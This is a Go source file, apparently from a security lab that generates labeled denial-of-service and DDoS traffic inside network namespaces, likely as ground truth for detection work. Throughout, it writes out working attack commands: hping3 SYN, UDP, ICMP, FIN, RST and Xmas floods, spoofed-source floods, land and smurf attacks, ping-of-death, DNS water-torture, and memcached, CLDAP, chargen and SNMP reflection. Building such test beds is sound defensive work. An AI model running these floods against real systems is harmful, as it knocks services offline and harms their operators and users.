package lab

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"time"

	"firetower/internal/attack"
)

// otherFloods: scripts that everybody finds, rates of a class-room, odd packets.
func otherFloods() []Scenario {
	slow, fast := flooding, flooding.nearby()
	at := func(victim func(context.Context, *Run) (*Host, error)) family {
		return fast.by(func(ctx context.Context, r *Run, line string) error { return floodService(ctx, r, line, victim) })
	}
	service := func(name string) family {
		return at(func(ctx context.Context, r *Run) (*Host, error) { return r.service(ctx, name) })
	}
	return []Scenario{
		slow.row("slowloris-script", "SLOW headers VICTIM FEW 8 35"),
		slow.row("rudy-script", "SLOW body VICTIM FEW 6 35"),
		fast.row("pipelined", "CANNON pipeline VICTIM 80 THREADS 3 SECS"),
		fast.row("button-http", "CANNON http VICTIM 80 THREADS 8 SECS"),
		fast.row("button-tcp", "CANNON tcp VICTIM 80 THREADS 50 SECS"),
		fast.row("button-udp", "CANNON udp VICTIM 80 THREADS 50 SECS"),
		fast.row("tls-handshakes", "for i in 1 2 3 4; do timeout SECS openssl s_time -connect VICTIM:443 -new -time 20 & done; wait"),
		fast.row("curl-crowd", "for i in $(seq 25); do timeout SECS sh -c 'while :; do curl -s -o /dev/null http://VICTIM/search?q=a; done' & done; wait"),
		fast.row("gentle-icmp", "timeout SECS hping3 -q -1 -d 56 -i uGENTLE VICTIM"),
		fast.row("gentle-udp", "timeout SECS hping3 -q -2 -p 80 -d 100 -i uGENTLE VICTIM"),
		fast.row("gentle-syn", "timeout SECS hping3 -q -S -p 80 -i uGENTLE VICTIM"),
		fast.row("brief-syn", "timeout 2.5 hping3 -q -S -p 80 -i u400 VICTIM"),
		fast.row("brief-udp", "timeout 2.5 hping3 -q -2 -p 53 -d 800 -i u400 VICTIM"),
		fast.row("brief-icmp", "timeout 2.5 ping -q -f -s 1000 VICTIM"),
		fast.row("ping-of-death", "timeout SECS ping -q -s 65000 -i 0.02 VICTIM"),
		fast.row("udp-fragments", "timeout SECS hping3 -q -2 -p 53 -d 3000 -i u4000 VICTIM"),
		{Name: "land", Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true, Play: land},
		fast.row("blacknurse", "timeout SECS hping3 -q -1 -C 3 -K 3 -i uGAPU VICTIM"),
		fast.row("fin-flood", "timeout SECS hping3 -q -F -p 80 -i uGAPU VICTIM"),
		fast.row("rst-flood", "timeout SECS hping3 -q -R -p 443 -i uGAPU VICTIM"),
		fast.row("xmas-flood", "timeout SECS hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i uGAPU VICTIM"),
		fast.row("syn-all-ports", "timeout SECS hping3 -q -S -p ++1 -i uGAPU VICTIM", attack.PortScan),
		at(dnsHost).row("water-torture", "awk 'BEGIN{srand(SEED);for(i=0;i<6000;i++)print substr(rand(),3,9) \"x.lab A\"}' > names; dnsperf -s VICTIM -d names -l SECS -Q 300 -q 20"),
		at(dnsHost).row("dns-any", "yes 'news.lab ANY' | head -5000 > names; dnsperf -s VICTIM -d names -l SECS -Q 600"),
		service("sip").row("sip-invites", "SIP invite VICTIM 100 x 0.004 2000"),
		service("redis").row("redis-connects", "SELF dial -to VICTIM:6379 -rate 250 -for SECSs"),
		at(func(_ context.Context, r *Run) (*Host, error) { return r.Files, nil }).row("ssh-connects", "SELF dial -to VICTIM:22 -rate 120 -for SECSs -hold 10s"),
		{Name: "from-inside-syn", Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true, Play: func(ctx context.Context, r *Run) error {
			r.Truth.Attackers = append(r.Truth.Attackers, r.People[0].Addr)
			r.against(r.News)
			r.play(ctx, r.People[0], "%s", r.fillFlood("timeout SECS hping3 -q -S -p 80 -i uGAPU VICTIM", r.News))
			return nil
		}},
	}
}

func dnsHost(_ context.Context, r *Run) (*Host, error) { return r.DNS, nil }

func floodService(ctx context.Context, r *Run, line string, of func(context.Context, *Run) (*Host, error)) error {
	victim, err := of(ctx, r)
	if err != nil {
		return err
	}
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	r.against(victim)
	r.strikeWith(ctx, a, r.fillFlood(line, victim))
	return nil
}

// land sends in the victim's own name, so nobody can be named.
func land(ctx context.Context, r *Run) error {
	a, err := r.host(ctx, "attacker1", false)
	if err != nil {
		return err
	}
	r.against(r.Shop)
	r.play(ctx, a, "%s", r.fillFlood("timeout SECS hping3 -q -S -a VICTIM -s 80 -k -p 80 -i uGAPU VICTIM", r.Shop))
	return nil
}

// otherDistributed: few bots, low rates, other reflectors, the whole network at once.
func otherDistributed() []Scenario {
	few := floodingTogether.within(45 * time.Second).by(floodFew)
	return []Scenario{
		floodingTogether.row("spoofed-gentle", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGENTLE VICTIM"),
		floodingTogether.row("spoofed-brief", "timeout 2.5 hping3 -q -2 --rand-source -p 80 -d 500 -i u500 VICTIM"),
		floodingTogether.row("spoofed-fin", "timeout SECS hping3 -q -F --rand-source -p 80 -i uGAPU VICTIM"),
		floodingTogether.row("memcached-reflection", "SELF reflect -to VICTIM -from BOTNET -port 11211 -size 1400 -reflectors 12 -rate 3000 -for SECSs"),
		floodingTogether.row("cldap-reflection", "SELF reflect -to VICTIM -from BOTNET -port 389 -size 1450 -reflectors 60 -rate 1500 -for SECSs"),
		floodingTogether.row("chargen-reflection", "SELF reflect -to VICTIM -from BOTNET -port 19 -size 1020 -reflectors 25 -rate 800 -for SECSs"),
		floodingTogether.row("snmp-reflection-gentle", "SELF reflect -to VICTIM -from BOTNET -port 161 -size 900 -reflectors 30 -rate 200 -for SECSs"),
		few.row("few-bots-syn", "timeout SECS hping3 -q -S -p 80 -i u3000 VICTIM"),
		few.row("few-bots-udp", "timeout SECS hping3 -q -2 -p 80 -d 600 -i u5000 VICTIM"),
		few.row("few-bots-icmp", "timeout SECS hping3 -q -1 -d 1000 -i u5000 VICTIM"),
		few.row("few-bots-get", "SELF flood -url http://VICTIM/search -workers 6 -rate 12 -for SECSs -seed SEED"),
		few.row("few-bots-slow", "SLOW headers VICTIM 25 8 30"),
		{Name: "smurf", Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true, Play: smurf},
	}
}

// floodFew is a handful of machines with the same program and their own dice.
func floodFew(ctx context.Context, r *Run, line string) error {
	r.against(r.Shop)
	var wg sync.WaitGroup
	for i := range r.between(4, 9) {
		h, err := r.host(ctx, fmt.Sprintf("bot%d", i), false)
		if err != nil {
			return err
		}
		wg.Go(func() { r.strikeWith(ctx, h, r.fillFlood(line, r.Shop)) })
	}
	wg.Wait()
	return nil
}

// smurf asks everybody by the network's broadcast address in the victim's name.
func smurf(ctx context.Context, r *Run) error {
	hosts := append([]*Host{r.Mail, r.Files, r.DNS}, r.People...)
	for i := range 6 {
		h, err := r.host(ctx, fmt.Sprintf("more%d", i), true)
		if err != nil {
			return err
		}
		hosts = append(hosts, h)
	}
	for _, h := range hosts {
		if err := sh(ctx, "ip netns exec "+h.ns+" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0"); err != nil {
			return err
		}
	}
	a, err := r.host(ctx, "attacker1", true)
	if err != nil {
		return err
	}
	r.against(r.Shop)
	all := netip.PrefixFrom(r.At(255), 32).Addr()
	r.play(ctx, a, "timeout %d hping3 -q -1 -d 200 -i u%d -a %s %s", r.between(5, 12), r.between(2000, 9000), r.Shop.Addr, all)
	return nil
}
